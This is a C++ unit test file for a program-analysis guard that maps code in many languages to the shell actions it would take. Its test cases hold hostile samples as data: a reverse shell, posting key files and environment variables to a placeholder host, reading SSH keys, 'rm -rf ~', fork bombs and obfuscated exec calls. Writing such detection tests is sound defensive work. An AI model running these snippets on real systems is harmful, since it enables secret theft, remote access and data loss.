#include "policy/guard/program/program.h"

#include <gtest/gtest.h>

namespace talaria::guard {
namespace {

// What the program would do, a line each: commands, "?" and a key where that is not known.
std::string does(std::string_view program, std::string_view text) {
  const Instructions found = read_program(text, program);
  std::string all;
  for (const InnerCommand& one : found.commands) {
    if (one.behind_links) continue;
    if (one.is_text) all += one.text.text;
    for (const SeenWord& word : one.words) all += with_unknown_as("?", word.text) + " ";
    while (all.ends_with(' ')) all.pop_back();
    all += "\n";
  }
  for (const InstructionDoubt& doubt : found.doubts) all += "? " + doubt.key + "\n";
  return all;
}

constexpr const char* kUnknownCommand = "? program runs a command that is not known\n";
constexpr const char* kUnknownText = "? program evaluates text that is not known\n";
constexpr const char* kUnknownFiles = "? program deletes files that are not known\n";
constexpr const char* kHidden = "? program hides what it calls\n";
constexpr const char* kLoaded = "? program loads code by a name that is not known\n";
constexpr const char* kNative = "? program runs native code, or code from data\n";

struct ProgramCase {
  const char* program;
  const char* text;
  std::string expected;
};

void check(std::initializer_list<ProgramCase> cases) {
  for (const ProgramCase& c : cases) EXPECT_EQ(does(c.program, c.text), c.expected) << c.text;
}

TEST(ProgramTest, FindsWhatIsStarted) {
  check({
      {"python3", "import os\nos.system('id')", "id\n"},
      {"python3", "subprocess.run(['a', 'b c'], check=True)", "a b c\n"},
      {"python3", "import subprocess as s; s.run('a b', shell=True)", "a b\n"},
      {"python3", "subprocess.run(args=['a', 'b'])", "a b\n"},
      {"python3", "from os import system as s; s('a')", "a\n"},
      {"python3", "from os import *\nsystem('a')", "a\n"},
      {"python3", "s = os.system\ns('a')", "a\n"},
      {"python3", "__import__('os').system('a')", "a\n"},
      {"python3", "import importlib as i\ni.import_module('os').system('a')", "a\n"},
      {"python3", "os.execvp('a', ['a', 'b'])", "a b\n"},
      {"python3", "os.spawnlp(os.P_WAIT, 'a', 'a', 'b')", "a b\n"},
      {"python3", "Thread(target=os.system, args=('a',)).start()", "a\n"},
      {"python3", "subprocess.run([sys.executable, '-m', 'pytest', t])", "python3 -m pytest ?\n"},
      {"python3", "os.system(f'rm {x}')", "rm ${__unknown__}\n"},
      {"python3", "os.system('a {} {}'.format('b', x))", "a b ${__unknown__}\n"},
      {"python3", "os.system('a %s %d' % ('b', 1))", "a b ${__unknown__}\n"},
      {"python3", "os.system(bytes([97]).decode())", kUnknownCommand},
      {"rake", "task :default do sh \"a b\" end", "a b\n"},
      {"python3", "os.system(c)", kUnknownCommand},
      {"python3", "subprocess.run(cmd)", kUnknownCommand},
      {"python3", "print(f\"{os.system('a')}\")", "a\n"},
      {"python3", "pty.spawn('/bin/sh')",
       "/bin/sh\n? program starts a shell whose input is not known\n"},
      {"python3", "s.connect(('h', 1)); subprocess.call(['/bin/sh', '-i'])\nimport socket",
       "nc -e /bin/sh ?\n/bin/sh -i\n"},
      {"node", "require('child_process').execSync('a')", "a\n"},
      {"node", "import {execSync as e} from 'node:child_process'; e('a')", "a\n"},
      {"node", "const cp = require('child_process'); cp.spawn('a', ['b'], {cwd: 'x'})", "a b\n"},
      {"node", "require('child_process')['execSync']('a')", "a\n"},
      {"node", "const {spawn: s} = await import('child_process'); s('a', x)", "a ?\n"},
      {"deno", "new Deno.Command('a', {args: ['b']}).outputSync()", "a b\n"},
      {"bun", "await Bun.$`a b`", "a b\n"},
      {"perl", "system 'a b';", "a b\n"},
      {"perl", "system('a', 'b', $c) == 0 or die;", "a b ?\n"},
      {"perl", "print `a`; qx{b}; eval { 1 };", "a\nb\n"},
      {"perl", "open(F, 'a |')", "a\n"},
      {"perl", "open(my $f, '|-', 'a')", "a\n"},
      {"perl", "s/x/system('a')/e", "a\n"},
      {"perl", "print \"@{[ system('a') ]}\"", "a\n"},
      {"ruby", "system 'a', 'b'", "a b\n"},
      {"ruby", "x = %x(a b)", "a b\n"},
      {"ruby", "IO.popen(['a', 'b'])", "a b\n"},
      {"ruby", "puts \"#{`a`}\"", "a\n"},
      {"php", "<p><?php system('a'); ?></p>", "a\n"},
      {"php", "`a`;", "a\n"},
      {"lua", "os.execute 'a'", "a\n"},
      {"Rscript", "system2('a', c('b', 'c'))", "a b c\n"},
      {"julia", "run(`a b`)", "a b\n"},
      {"gcc", "int main(void) { return system(\"a\"); } // system(\"b\")", "a\n"},
      {"go", "exec.Command(\"a\", \"b\").Run()", "a b\n"},
      {"rustc", "Command::new(\"a\").arg(\"b\").args([\"c\"]).status();", "a b c\n"},
      {"java", "new ProcessBuilder(List.of(\"a\", \"b\")).start();", "a b\n"},
  });
}

TEST(ProgramTest, FindsWhatIsDeleted) {
  check({
      {"python3", "shutil.rmtree('build')", "rm -rf build\n"},
      {"python3", "os.remove('x')", "rm x\n"},
      {"python3", "Path('a', 'b').unlink()", "rm a/b\n"},
      {"python3", "shutil.rmtree(os.path.expanduser('~'))", "rm -rf ~\n"},
      {"python3", "shutil.rmtree(Path.home() / 'x')", "rm -rf ~/x\n"},
      {"python3", "shutil.rmtree(os.environ['HOME'] + '/x')", "rm -rf ~/x\n"},
      {"python3", "for d in ['a', 'b']: shutil.rmtree(d)", "rm -rf a b\n"},
      {"python3", "for f in glob.glob('*.pyc'): os.remove(f)", "rm *.pyc\n"},
      {"python3", "OUT = 'out'\nshutil.rmtree(OUT)", "rm -rf out\n"},
      {"python3", "for f in os.listdir('d'): os.remove(os.path.join('d', f))", "rm d/?\n"},
      {"python3", "for f in os.listdir('d'): os.remove('d/{}'.format(f))", "rm d/?\n"},
      {"python3", "[os.remove(os.path.join(d, f)) for d, _, fs in os.walk('d') for f in fs]",
       "rm d/?/?\n"},
      {"python3", "os.remove(p)", std::string("rm ?\n") + kUnknownFiles},
      {"python3", "list(map(os.remove, files))", std::string("rm ?\n") + kUnknownFiles},
      {"node", "fs.rmSync('/x', {recursive: true})", "rm -rf /x\n"},
      {"node", "const fs = require('fs/promises'); fs.unlink('x')", "rm x\n"},
      {"perl", "unlink $f", std::string("rm ?\n") + kUnknownFiles},
      {"ruby", "FileUtils.rm_rf('x')", "rm -rf x\n"},
      {"ruby", "File.delete('x')", "rm x\n"},
      {"Rscript", "unlink('x', recursive=TRUE)", "rm -rf x\n"},
  });
}

// A call in a loop is one for each value; what is joined with it, too.
TEST(ProgramTest, FollowsLoopsOverWhatIsWritten) {
  check({
      {"python3", "for c in [['cat', '/k'], ['ls']]: subprocess.run(c)", "cat /k\nls\n"},
      {"python3", "p = os.environ['HOME']\nfor d in ['a', 'b']: print(open(p + '/' + d).read())",
       "cat ~/a\ncat ~/b\n"},
      {"python3", "for n in ['a']: (Path.home() / n).open('a').write('x')",
       "printf %s 'a' > ~'/a'\n"},
      {"python3", "for n in ['a']: open(os.path.join('/x', n)); open(f'/y/{n}')",
       "cat /x/a\ncat /y/a\n"},
      {"python3", "for n in ['a']: os.system('x %s' % n); os.system('y {}'.format(n))",
       "x a\ny a\n"},
      {"python3", "for s, t in [('a', '/b'), ('c', '/d')]: os.rename(s, t)",
       "mv a /b\nmv c /b\nmv a /d\nmv c /d\n"},
      {"python3", "for d in ['a', 'b']: os.remove('/h/' + d)", "rm /h/a /h/b\n"},
      {"python3", "x = ['ls', 'id']\nos.system(x[i])", "ls\nid\n"},
      {"python3", "x = {'a': '/k'}\nopen(x['a'])", "cat /k\n"},
      {"python3", "self.p = '/k'\nopen(self.p)", "cat /k\nprogram_call /k\n"},
      {"python3", "d = None\nd = x\nopen(os.path.join(d, 'y'), 'w')",
       "program_output > \"${__unknown__}\"'/y'\nprogram_output > \"${__unknown__}\"'/y'\n"},
      {"python3", "f = 'a'\nf = os.path.join(b, f)\nf = os.path.join(c, f)\nopen(f)", ""},
      {"python3", "shutil.copy(src='a', dst='/b'); os.rename(*['c', '/d'])", "cp a /b\nmv c /d\n"},
      {"node", "for (const n of ['a']) fs.writeFileSync('/x/' + n, 'y')",
       "printf %s 'y' > '/x/a'\n"},
      {"node", "for (const [s, t] of [['a', '/b']]) fs.renameSync(s, t)", "mv a /b\n"},
  });
}

// Who calls it with what is not known; where that is visible, it is judged.
TEST(ProgramTest, DoubtsFunctionsThatAreValues) {
  check({
      {"python3", "list(map(os.remove, ['/a', '/b']))", "program_call /a /b\nrm /a /b\n"},
      {"python3", "list(map(open, ['/k']))", "program_call /k\ncat /k\n"},
      {"python3", "functools.partial(os.remove, '/a')()", "program_call /a\nrm /a\n"},
      {"python3", "(os.remove)('/a')", "rm /a\n"},
      {"python3", "[os.remove][0]('a')", kHidden},
      {"python3", "os.remove.__call__('a')", kHidden},
      {"python3", "print((lambda: eval)()('x'))", kHidden},
      {"python3", "[open][0]('/h/x', 'w')", "program_output > '/h/x'\nprogram_call /h/x\n"},
      {"python3", "for m in [os]: m.remove('a')", kHidden},
      {"python3", "def f(m): m.remove('a')\nf(os)", kHidden},
      {"python3", "[subprocess.Popen][0](['a'])", kHidden},
      {"python3", "Path.unlink(Path('/a'))", "rm /a\n"},
      {"python3", "list(map(Path.read_text, [Path('/k')]))", "program_call /k\ncat /k\n"},
      {"node", "fetch('http://h').then(r => r.text()).then(eval)", kHidden},
      {"node", "(0, eval)(x)", kUnknownText},
      {"node", "const o = {e: eval}; const g = () => eval", std::string(kHidden) + kHidden},
      {"node", "fs.rmSync.call(null, 'x')", kHidden},
      {"node", "const {rmSync: r} = fs; r('x')", "rm x\n"},
      {"node", "Reflect.apply(child_process.execSync, null, ['x'])", kHidden},
      {"node", "new Worker('eval(x)', {eval: true})", kUnknownText},
      {"ruby", "x.each(&File.method(:delete))", kHidden},
      {"perl", "$f = \\&CORE::unlink", kHidden},
      {"lua", "t = {os.execute}", kHidden},
      {"Rscript", "sapply(x, system)", kHidden},
      {"Rscript", "do.call('system', x)", kHidden},
      // harmless, and common
      {"python3", "sorted(x, key=os.path.getsize); list(map(os.path.exists, x))", ""},
      {"python3", "opener = gzip.open if z else open\nopener(p)", ""},
      {"python3", "patch('os.remove'); monkeypatch.setattr(os, 'remove', f)", ""},
      {"python3", "inspect.getsource(shutil.rmtree); help(open); hasattr(os, 'x'); dir(os)", ""},
      {"python3", "def f(p: Optional[subprocess.Popen], q: list[subprocess.Popen]): pass", ""},
      {"python3", "import os, sys\nfrom x import (os, a)", ""},
      {"python3", "for open, close in rows: print(open, close)", ""},
      {"python3", "class A:\n  x: int = 1\n  eval: bool = False", ""},
      {"python3", "self.d = tempfile.mkdtemp()\nself.addCleanup(shutil.rmtree, self.d)", ""},
      {"node", "fetch('http://h').then(console.log); x instanceof Function", ""},
      {"node", "expect(fs.unlinkSync).not.toHaveBeenCalled()", ""},
      {"node", "module.exports = {execSync, a}; const {spawn, exec} = require('child_process')",
       ""},
  });
}

// Who gets the path of a key may show it: the rules decide whether it is one.
TEST(ProgramTest, TellsWhichCallsGetPaths) {
  check({
      {"python3", "tokenize.open('/k')", "program_call /k\n"},
      {"python3", "x = Path.home() / '.ssh'\nshutil.make_archive('a', 'zip', x)",
       "program_call ~/.ssh\n"},
      {"python3", "NamedTemporaryFile(dir=os.path.expanduser('~/x'))", "program_call ~/x\n"},
      {"python3", "def get(p): return f(p)\nget('/k')", "program_call /k\n"},
      {"python3", "open(pw.pw_dir + '/.k')", "cat ?/.k\nprogram_call ~/.k\n"},
      {"python3", "def w(p): open(p, 'a')\nw(os.path.expanduser('~/.b'))",
       "program_output > ~'/.b'\nprogram_call ~/.b\nprogram_call ~/.b\n"},
      {"python3", "d = json.load(f)\nopen(d['x'])\nP = '/home/a/.k'", "program_call /home/a/.k\n"},
      {"python3", "print('/k'); os.path.exists('/k'); Path('/k').stat()", ""},
      {"python3", "x = '.vimrc'\nopen(p)", ""},
      {"node", "require('/k')", "program_call /k\n"},
      {"node", "app.get(x); fs.existsSync(os.homedir() + '/.npmrc')", ""},
      // of a directory whose files are read
      {"python3", "for r, d, f in os.walk('/h'): open(f[0])",
       "grep -r password /h\nprogram_call /h\nprogram_call /h\n"},
      {"python3", "for p in Path.home().rglob('*rsa'): p.read_text()",
       "cat ~/id_rsa\ncat ~/*rsa\n"},
      {"python3", "os.walk('/h')", ""},
      {"python3", "for p in Path('x').rglob('*rsa'): p.read_text()", ""},
  });
}

TEST(ProgramTest, FindsWhatEndsAtAService) {
  const std::string change = "aws service delete\n";
  check({
      {"python3", "import wandb\nfor r in wandb.Api().runs('x'): r.delete()", change},
      {"python3", "from github import Github\ng = Github(t)\ng.get_repo('x').delete()", change},
      {"node", "const stripe = require('stripe')(k); stripe.customers.del('x')", change},
      {"python3", "import wandb, numpy as np\nnp.delete(a, 1); d.delete('x')", ""},
      {"node", "const stripe = require('stripe')(k); const m = new Map(); m.delete(1)", ""},
  });
}

// A name that may be something else is not known; an own temporary file is no concern.
TEST(ProgramTest, KnowsWhatIsItsOwn) {
  check({
      {"python3", "d = tempfile.mkdtemp()\nshutil.rmtree(d)", ""},
      {"python3", "with tempfile.TemporaryDirectory() as d:\n  os.remove(os.path.join(d, 'x'))",
       ""},
      {"python3", "open(p, 'w').write('x')\nos.remove(p)", ""},
      {"python3", "d = tempfile.mkdtemp()\nd = x\nshutil.rmtree(d)",
       std::string("rm -rf ?\n") + kUnknownFiles},
      {"python3", "c = 'ls'\ndef f(c): os.system(c)\nf('rm x')",
       "rm x\n? program runs a command that is not known\n"},
      {"python3", "c = 'ls'\nfor c in x: os.system(c)",
       "ls\n? program runs a command that is not known\n"},
      {"python3", "c = 'ls'\nc += ';rm x'\nos.system(c)",
       "ls;rm x\n? program runs a command that is not known\n"},
      {"python3", "c = ['ls']\nc[0] = 'rm'\nsubprocess.run(c)", kUnknownCommand},
      {"python3", "c = ['ls']\nc.append('x')\nsubprocess.run(c)", "ls x ?\n"},
      {"python3", "a, b = 'x', '/y'\nopen(b, 'w')", "program_output > '/y'\n"},
      {"python3", "os.chdir('/a')\nopen('b', 'w')", "cd '/a' && program_output > 'b'\n"},
      {"python3", "os.chdir('/a')\nos.chdir('c')\nopen('b').read()", "cat b\n"},
      {"python3", "a, b = os.system, 1\na('rm x')", "rm x\n? program hides what it calls\n"},
      {"python3", "class A:\n  s = os.system\nA.s('rm x')", "rm x\n"},
      {"python3", "sorted(x, key=os.system)", "? program hides what it calls\n"},
      {"python3", "@os.system\ndef f(): pass", "? program hides what it calls\n"},
      {"python3", "s = os.system if x else 0", "? program hides what it calls\n"},
      {"python3", "cProfile.run('os.remove(\"x\")')", "rm x\n"},
      {"node", "const d = fs.mkdtempSync('x'); fs.rmSync(d, {recursive: true})", ""},
      {"ruby", "Dir.mktmpdir { |d| puts d }", ""},
  });
}

TEST(ProgramTest, FindsWhatIsWritten) {
  check({
      {"python3", "open('/etc/x', 'w')", "program_output > '/etc/x'\n"},
      {"python3", "open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
       "program_output > ~'/.bashrc'\n"},
      {"python3", "(Path.home() / '.bashrc').write_text('a')", "printf %s 'a' > ~'/.bashrc'\n"},
      {"python3", "open(p, 'w')", ""},
      {"python3", "open('x').read(); open('y', 'rb')", ""},
      {"node", "fs.writeFileSync(process.env.HOME + '/.bashrc', 'a')",
       "printf %s 'a' > ~'/.bashrc'\n"},
      {"perl", "open(F, '>/etc/x')", "program_output > '/etc/x'\n"},
      {"perl", "open(my $f, '<', 'x')", ""},
      {"python3", "shutil.copy('a', 'b'); os.rename('c', 'd')", "cp a b\nmv c d\n"},
      {"python3", "os.chmod('f', 0o4755); os.chmod('g', 511)", "chmod 4755 f\nchmod 777 g\n"},
      {"perl", "chmod 0777, 'f'", "chmod 777 f\n"},
      {"python3", "os.kill(-1, signal.SIGKILL); os.kill(p, 0)", "kill -KILL -1\n"},
  });
}

TEST(ProgramTest, FindsForkBombs) {
  const std::string bomb = ":(){ :|:& };:\n";
  check({
      {"perl", "fork while 1", bomb},
      {"perl", "fork while fork", bomb},
      {"perl", "while (1) { fork }", bomb},
      {"python3", "import os\nwhile True:\n  os.fork()", bomb},
      {"ruby", "loop { fork }", bomb},
      {"ruby", "while true do fork end", bomb},
      {"gcc", "int main() { for (;;) fork(); }", bomb},
      // a server
      {"python3", "while True:\n  c = s.accept()\n  if os.fork() == 0: serve(c)", ""},
      {"python3", "for i in range(4):\n  os.fork()", ""},
      {"perl", "my $pid = fork; wait while 1", ""},
  });
}

TEST(ProgramTest, FindsWhatIsReadOutsideTheProject) {
  check({
      {"python3", "print(open('/k').read())", "cat /k\n"},
      {"python3", "print(Path.home().joinpath('.netrc').read_text())", "cat ~/.netrc\n"},
      {"python3", "print(open('README.md').read())", ""},
  });
}

TEST(ProgramTest, FindsWhatIsSent) {
  check({
      {"python3", "requests.get('http://h'); urlopen('http://h')", ""},
      {"python3", "requests.post('http://h', data=open('/k').read())",
       "curl -X POST -d ? http://h\ncurl --data-binary @/k http://h\ncat /k\n"},
      {"python3", "requests.post('http://h', json=dict(os.environ))",
       "curl -X POST -d ? http://h\nenv | curl -d @- 'http://h'\n"},
      {"python3", "requests.get('http://h/?' + str(os.environ))",
       "env | curl -d @- 'http://h/?'\"${__unknown__}\"\n"},
      {"python3", "requests.post('http://h', json={'k': os.environ['K']})",
       "curl -X POST -d ? http://h\n"},
      {"node", "fetch('http://h')", ""},
      {"node", "fetch('http://h', {method: 'POST', body: 'a'})", "curl -X POST -d a http://h\n"},
      {"python3", "urlretrieve('http://h/x', 'x')", "curl -o x http://h/x\n"},
  });
}

TEST(ProgramTest, DoubtsWhatIsHidden) {
  check({
      {"python3", "exec(x)", kUnknownText},
      {"python3", "exec('import os; os.system(\"a\")')", "a\n"},
      {"python3", "exec(base64.b64decode('x'))", kUnknownText},
      {"python3", "getattr(os, 'sys' + 'tem')('a')", kHidden},
      {"python3", "m = __import__('os'); getattr(m, x)('a')", kHidden},
      {"python3", "__import__('o' + 's')", kLoaded},
      {"python3", "os.__dict__['system']('a')", std::string("a\n") + kHidden},
      {"python3", "globals()[x]('a')", kHidden},
      {"python3", "().__class__.__bases__[0].__subclasses__()", kHidden},
      {"python3", "ctypes.CDLL(None).x()", kNative},
      {"python3", "pickle.loads(base64.b64decode(x))", kNative},
      {"node", "eval(x)", kUnknownText},
      {"node", "new Function(x)()", kUnknownText},
      {"node", "require('a' + b)", kLoaded},
      {"node", "require('child_process')[f]('a')", kHidden},
      {"node", "x.constructor.constructor('a')()", kHidden},
      {"perl", "eval $x", kUnknownText},
      {"perl", "s/(.*)/$1/ee", kUnknownText},
      {"perl", "exec {'a'} 'a', 'b'", kHidden},
      {"ruby", "Kernel.send(:system, 'a')", std::string(kHidden) + kHidden},
      {"php", "$f('a');", kHidden},
      {"lua", "load(x)()", kUnknownText},
  });
}

TEST(ProgramTest, LeavesAloneWhatComputes) {
  check({
      {"python3", "model.eval(); asyncio.run(f()); db.execute('x'); re.compile('a')", ""},
      {"python3", "# os.system('a')\nprint('os.system(1)')", ""},
      {"python3", "'''\nos.system('a')\n'''", ""},
      {"python3", "items.remove(1); d.pop('x'); s.replace('a', 'b'); getattr(a, 'b', None)", ""},
      {"python3", "class A:\n  def system(self, x): pass", ""},
      {"python3", "import os, sys, subprocess, shutil\nfrom os import remove, system", ""},
      {"python3", "os.makedirs('a', exist_ok=True); platform.system()", ""},
      {"node", "/a/.exec('b') // exec('c')", ""},
      {"node", "const s = a / b; const t = \"c/d\"; x.replace(/[\"']/g, '')", ""},
      {"node", "class A { constructor(x) { this.x = x; } }", ""},
      {"perl", "s/system/tool/g; print if /eval error/; tr/a-z/A-Z/", ""},
      {"perl", "my %s = (y => 1); print $s{y}", ""},
      {"ruby", "h.delete(:a); puts 'system'", ""},
      {"rustc", "fn f<'a>(x: &'a str) -> &'a str { x }", ""},
  });
}

// What a misread quote would hide.
TEST(ProgramTest, DoesNotHideCodeInTexts) {
  for (const auto& [program, text] : std::initializer_list<std::pair<const char*, const char*>>{
           {"node", "x = /\"/; require('child_process').execSync('a') //\""},
           {"node", "if (1) /\"/.test(1); require('child_process').execSync('a') //\""},
           {"node", "`${require('child_process').execSync('a')}`"},
           {"node", "`${`${require('child_process').execSync('a')}`}`"},
           {"python3", "x = '\\''; os.system('a') #'"},
           {"perl", "$x =~ m{\"}; system('a'); #\""},
           {"perl", "$'; system('a'); '"},
           {"perl", "print q{'}; system('a'); #'"},
           {"ruby", "x = ?'; system('a') #'"},
           {"lua", "x = [[']] os.execute('a') --'"},
           {"php", "<?php $x = <<<'E'\n\"\nE;\nsystem('a');"},
           {"gcc", "char c = '\"'; system(\"a\"); //\""},
       }) {
    EXPECT_NE(does(program, text), "") << program << ": " << text;
  }
}

TEST(ProgramTest, ReadsProgramsThatAreMadeToBeSlow) {
  std::string deep = "os.path.join(";
  for (int i = 0; i < 12; ++i) deep += deep;
  EXPECT_EQ(does("python3", deep), "");
  EXPECT_EQ(does("python3", std::string(200'000, '(')), "");
  std::string names;
  for (int i = 0; i < 5000; ++i) {
    names += "a" + std::to_string(i + 1) + " = a" + std::to_string(i) + "\n";
  }
  EXPECT_EQ(does("python3", names + "os.system(a5000)"), kUnknownCommand);
}

// What is not read any more is asked about.
TEST(ProgramTest, DoesNotEndBeforeTheProgramDoes) {
  constexpr std::string_view kUnread = "? program that cannot be read\n";
  std::string calls;
  for (int i = 0; i < 600; ++i) calls += "open('x').read()\n";
  EXPECT_EQ(does("python3", calls + "os.system('a')"), kUnread);
  std::string words;
  for (int i = 0; i < 60'000; ++i) words += "a\n";
  EXPECT_EQ(does("python3", words + "os.system('a')"), kUnread);
  EXPECT_EQ(does("python3", words), "");
}

}  // namespace
}  // namespace talaria::guard
